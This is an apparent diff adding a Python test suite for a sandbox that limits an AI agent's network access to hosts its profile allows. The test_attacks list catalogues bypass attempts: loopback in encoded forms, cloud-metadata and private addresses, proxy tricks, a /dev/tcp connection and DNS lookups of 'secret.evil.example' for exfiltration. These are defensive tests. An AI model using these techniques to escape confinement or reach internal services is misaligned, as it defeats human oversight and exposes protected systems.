@@ -1,0 +1,308 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: MIT
+"""
+The network of an agent in a cell with `network = allow`, on a small Internet: what the profile
+names is reached, and nothing else. Each attack works without the cell.
+"""
+
+import errno
+import json
+import pathlib
+import re
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+
+import case
+import internet
+import processes
+
+from acp import RpcError
+from confinement import CONFINE, become_user
+from internet import (DATAGRAM_PORT, HERE, METADATA, OTHER_PORT, PRIVATE, PUBLIC, STREAM_PORT,
+                      THERE, THERE6)
+from sync_case import SyncCase
+from test_confined import AGENT, BROKER, FSOPEN, PROGRAMS, refusing
+
+FOLDER = PROGRAMS / 'internet'
+FOLDER.mkdir(mode=0o755)
+
+OUTPUT = re.compile(r'^terminal/output -> (.*)$', re.M)
+
+# Says "reached" and what it heard, or why not. The first word is how it goes there.
+TRY = r"""
+import os, socket, struct, sys
+
+def heard(s):
+    s.settimeout(20)
+    data = s.recv(100)
+    return 'reached ' + data.decode().strip() if data else 'closed'
+
+def proxy(rest, size):
+    s = socket.create_connection(('198.18.0.1', 3128), 20)
+    s.settimeout(20)
+    s.sendall(rest)
+    return s
+
+def tcp(host, port):
+    return heard(socket.create_connection((host, int(port)), 20))
+
+def udp(host, port):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect((host, int(port)))
+    s.send(b'x')
+    return heard(s)
+
+def connect(host, port):
+    if not os.environ.get('HTTPS_PROXY'):
+        return tcp(host, port)
+    s = socket.create_connection(('198.18.0.1', 3128), 20)
+    s.settimeout(20)
+    s.sendall(f'CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}\r\n\r\n'.encode())
+    answer = s.makefile('rb')
+    status = answer.readline().split()[1].decode()
+    while answer.readline().strip():
+        pass
+    return 'status ' + status if status != '200' else 'reached ' + answer.readline().decode()
+
+def socks(host, port):
+    if not os.environ.get('HTTPS_PROXY'):
+        return tcp(host, port)
+    s = socket.create_connection(('198.18.0.1', 3128), 20)
+    s.settimeout(20)
+    s.sendall(b'\5\1\0')
+    answer = s.makefile('rb')
+    assert answer.read(2) == b'\5\0'
+    s.sendall(b'\5\1\0\3' + bytes([len(host)]) + host.encode() + struct.pack('>H', int(port)))
+    status = answer.read(10)[1]
+    return f'status {status}' if status else 'reached ' + answer.readline().decode()
+
+def name(server, asked, kind='1'):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(20)
+    s.connect((server, 53))
+    labels = b''.join(bytes([len(x)]) + x.encode() for x in asked.split('.'))
+    s.send(struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + labels +
+           struct.pack('>BHH', 0, int(kind), 1))
+    answer = s.recv(600)
+    return f'code {answer[3] & 15} answers {answer[7]}'
+
+try:
+    print(globals()[sys.argv[1]](*sys.argv[2:]))
+except OSError as failed:
+    print('error', failed.errno, failed)
+"""
+
+
+class ConfinedNetwork(SyncCase):
+    def setUp(self):
+        super().setUp()
+        (self.work / 'try.py').write_text(TRY)
+        self.heard = len(self.log())
+        listener = socket.create_server(('0.0.0.0', 0))
+        self.port = listener.getsockname()[1]
+        self.addCleanup(listener.close)
+        self.addCleanup(lambda: listener.shutdown(socket.SHUT_RDWR))
+        threading.Thread(target=self.serve, args=(listener,), daemon=True).start()
+
+    def serve(self, listener):
+        """A service of this machine's."""
+        try:
+            while True:
+                client, _ = listener.accept()
+                client.sendall(b'HELLO service\n')
+                client.close()
+        except OSError:
+            pass
+
+    def log(self):
+        return (FOLDER / 'log').read_text().splitlines()
+
+    def arrived(self):
+        """What has reached the far side in this test."""
+        return self.log()[self.heard:]
+
+    def broker_argv(self, *options, agent):
+        return [*getattr(self, 'wrapper', ()), BROKER, *options, '--', *agent]
+
+    def allowing(self, confine=CONFINE, **keys):
+        audit = self.dir / 'audit'
+        options = self.config(confine=confine, allow_read=str(PROGRAMS), network='allow', **keys)
+        path = pathlib.Path(options[1])
+        path.write_text(f'[broker]\n\taudit = {audit}\n' + path.read_text())
+        client = self.broker(options=options, agent=[AGENT])
+        client.initialize()
+        return client, client.new_session(self.work)
+
+    def audited(self):
+        lines = [json.loads(line) for line in (self.dir / 'audit').read_text().splitlines()]
+        return [(line['subject'], line['way'], line['rule'], line['decision'], line.get('result'))
+                for line in lines if line['operation'] == 'network/connect']
+
+    def try_all(self, client, session, *tries):
+        """What each try has said, in one terminal."""
+        said = self.shell(client, session, '; '.join(f'python3 try.py {each}' for each in tries))
+        found = [line for line in said.splitlines() if line]
+        self.assertEqual(len(found), len(tries), said)
+        return found
+
+    def shell(self, client, session, line):
+        """What the line has printed, in a terminal of the agent."""
+        before = len(client.texts(session))
+        client.prompt(session, f'terminal {line}')
+        said = '\n'.join(client.texts(session)[before:])
+        return json.loads(OUTPUT.search(said)[1])['output']
+
+    def outside(self, words):
+        """The same without a cell."""
+        done = subprocess.run(['python3', str(self.work / 'try.py'), *words.split()],
+                              env=self.environment(), capture_output=True, text=True, check=True)
+        return done.stdout.strip()
+
+    def ended(self, client):
+        return [text for text in self.notices(client) if 'refused from now on' in text]
+
+    def ends(self, client):
+        client.close_stdin()
+        self.assertEqual(client.wait(), 0, client.stderr)
+        self.assert_nothing_runs()
+
+    # ---- what is reached ----
+
+    def test_what_the_profile_names_is_reached_by_every_way(self):
+        client, session = self.allowing(
+            allow_host=[f'allowed.example:{STREAM_PORT}', '*.below.example'])
+        said = self.try_all(
+            client, session, f'tcp allowed.example {STREAM_PORT}',
+            f'connect allowed.example {STREAM_PORT}', f'socks a.below.example {OTHER_PORT}',
+            f'tcp allowed.example {OTHER_PORT}', f'tcp below.example {STREAM_PORT}',
+            f'connect other.example {STREAM_PORT}', f'socks other.example {STREAM_PORT}')
+        self.assertEqual(said[:3], [f'reached HELLO {PUBLIC}'] * 3)
+        for each in said[3:]:
+            self.assertNotIn('reached', each)
+        names = {line.split()[1] for line in self.arrived() if line.startswith('name')}
+        self.assertEqual(names, {'allowed.example', 'a.below.example'})
+        rule = f'allow-host = allowed.example:{STREAM_PORT}'
+        self.assertEqual(self.audited()[:4], [
+            (f'allowed.example:{STREAM_PORT}', 'socket', rule, 'allow-once', 'connected'),
+            (f'allowed.example:{STREAM_PORT}', 'connect', rule, 'allow-once', 'connected'),
+            (f'a.below.example:{OTHER_PORT}', 'socks', 'allow-host = *.below.example',
+             'allow-once', 'connected'),
+            (f'allowed.example:{OTHER_PORT}', 'socket', 'network = allow', 'reject-once', None)])
+        self.assertIn(f'allow-host = other.example:{STREAM_PORT}', '\n'.join(self.notices(client)))
+        self.ends(client)
+
+    def test_networks_are_reached_and_their_names(self):
+        client, session = self.allowing(allow_cidr=['10.99.0.0/16'], allow_host='private.example')
+        said = self.try_all(client, session, f'tcp {PRIVATE} {STREAM_PORT}',
+                            f'tcp private.example {STREAM_PORT}', f'tcp {PUBLIC} {STREAM_PORT}')
+        self.assertEqual(said[:2], [f'reached HELLO {PRIVATE}'] * 2)
+        self.assertNotIn('reached', said[2])
+        self.ends(client)
+
+    def test_a_service_of_this_machine_is_reached_by_one_line(self):
+        client, session = self.allowing(allow_host=f'localhost:{self.port}')
+        said = self.try_all(client, session, f'tcp 127.0.0.1 {self.port}',
+                            f'tcp localhost {self.port}', f'connect localhost {self.port}',
+                            f'tcp 127.0.0.1 {self.port ^ 1}', f'tcp {HERE} {self.port}')
+        self.assertEqual(said[:3], ['reached HELLO service'] * 3)
+        for each in said[3:]:
+            self.assertNotIn('reached', each)
+        self.assertEqual(self.audited()[0], (f'localhost:{self.port}', 'socket',
+                         f'allow-host = localhost:{self.port}', 'allow-once', 'connected'))
+        self.ends(client)
+
+    # ---- what is not ----
+
+    def test_attacks(self):
+        attacks = [
+            f'tcp {PUBLIC} {STREAM_PORT}', f'tcp {METADATA} {STREAM_PORT}',
+            f'tcp {PRIVATE} {STREAM_PORT}', f'tcp 127.0.0.1 {self.port}',
+            f'tcp 127.1 {self.port}', f'tcp 0.0.0.0 {self.port}', f'tcp 2130706433 {self.port}',
+            f'tcp ::ffff:127.0.0.1 {self.port}', f'tcp ::ffff:{PUBLIC} {STREAM_PORT}',
+            f'socks 2130706433 {self.port}', f'socks 0x7f000001 {self.port}',
+            f'tcp {HERE} {self.port}', f'tcp {THERE6} {STREAM_PORT}',
+            f'udp {PUBLIC} {DATAGRAM_PORT}', f'tcp loopback.example {self.port}',
+            f'tcp here.example {self.port}', f'tcp metadata.example {STREAM_PORT}',
+            f'tcp private.example {STREAM_PORT}', f'connect loopback.example {self.port}',
+            f'connect 127.0.0.1 {self.port}', f'connect localhost {self.port}',
+            f'connect {METADATA} {STREAM_PORT}', f'connect metadata.example {STREAM_PORT}',
+            f'socks loopback.example {self.port}', f'socks 127.0.0.1 {self.port}',
+            f'socks 127.1 {self.port}', f'socks here.example {self.port}',
+            f'name {THERE} secret.evil.example', f'name {THERE} secret.evil.example 16']
+        for words in attacks:
+            said = self.outside(words)
+            self.assertTrue(said.startswith(('reached', 'code 0')), f'{words}: {said}')
+        self.assertIn('name secret.evil.example 16', self.arrived())
+        client, session = self.allowing(allow_host=[
+            'loopback.example', 'here.example', 'metadata.example', 'private.example'])
+        self.heard = len(self.log())
+        said = self.try_all(client, session, *attacks)
+        for words, each in zip(attacks, said):
+            self.assertNotIn('reached', each, words)
+        # Another way than asking for each would take seconds: QUIC is tried before TCP.
+        datagram = said[attacks.index(f'udp {PUBLIC} {DATAGRAM_PORT}')]
+        self.assertIn(f'error {errno.ECONNREFUSED}', datagram)
+        self.assertIn('answers 0', said[-1])
+        for line in self.arrived():  # nothing but names that the profile has
+            self.assertRegex(line, r'\Aname (loopback|here|metadata|private)\.example \d+\Z')
+        self.ends(client)
+
+    # ---- how it is ----
+
+    def test_the_agent_has_the_variables_and_the_files(self):
+        client, session = self.allowing(allow_host='allowed.example')
+        said = self.shell(client, session, 'echo "<$HTTPS_PROXY><$HTTP_PROXY>"; '
+                          'cat /etc/resolv.conf /etc/hosts; grep hosts: /etc/nsswitch.conf')
+        self.assertEqual(said.splitlines(), [
+            '<http://198.18.0.1:3128><>', 'nameserver 198.18.0.1', 'options ndots:1',
+            '127.0.0.1 localhost', 'hosts: files dns'])
+        self.ends(client)
+
+    def test_what_is_refused_before_a_session_is_logged(self):
+        early = '"bash -c \'read x </dev/tcp/early.example/80\'; true"'
+        client, _ = self.allowing(allow_host='allowed.example', setup=early)
+        client.wait_log('early.example:80 | allow-host = early.example:80')
+        self.ends(client)
+
+    def test_its_end_is_told_once_and_opens_nothing(self):
+        client, session = self.allowing(allow_host='allowed.example')
+        self.assertEqual(self.try_all(client, session, f'tcp allowed.example {STREAM_PORT}'),
+                         [f'reached HELLO {PUBLIC}'])
+        for pid in relays(client.pid):
+            processes.kill(pid)
+        self.assertTrue(processes.wait_until(lambda: self.ended(client)))
+        said = self.try_all(client, session, f'tcp allowed.example {STREAM_PORT}',
+                            f'tcp {PUBLIC} {STREAM_PORT}', f'connect {PUBLIC} {STREAM_PORT}')
+        for each in said:
+            self.assertNotIn('reached', each)
+        self.assertEqual(len(self.ended(client)), 1)
+        self.assertEqual(relays(client.pid), [])
+        self.ends(client)
+
+    def test_where_it_cannot_be_enforced_no_agent_starts(self):
+        self.wrapper = refusing(FSOPEN, errno.EPERM)
+        for confine in ('yes', 'required'):
+            with self.assertRaises(RpcError) as caught:
+                self.allowing(confine=confine, allow_host='allowed.example')
+            self.assertEqual(caught.exception.data['code'], 'CELL_UNAVAILABLE')
+
+
+def relays(broker):
+    """The relaying processes below a broker."""
+    return [pid for pid in processes.descendants(broker)
+            if b'--acp-broker-relay' in processes.read_file(f'/proc/{pid}/cmdline')]
+
+
+if __name__ == '__main__':
+    try:
+        internet.enter(FOLDER)
+    except OSError as forbidden:
+        print(f'no network namespace can be made: {forbidden}')
+        print('cases: 0 passed, 0 failed, 1 skipped')
+        shutil.rmtree(PROGRAMS)
+        sys.exit(0)
+    become_user(PROGRAMS)
+    case.main()
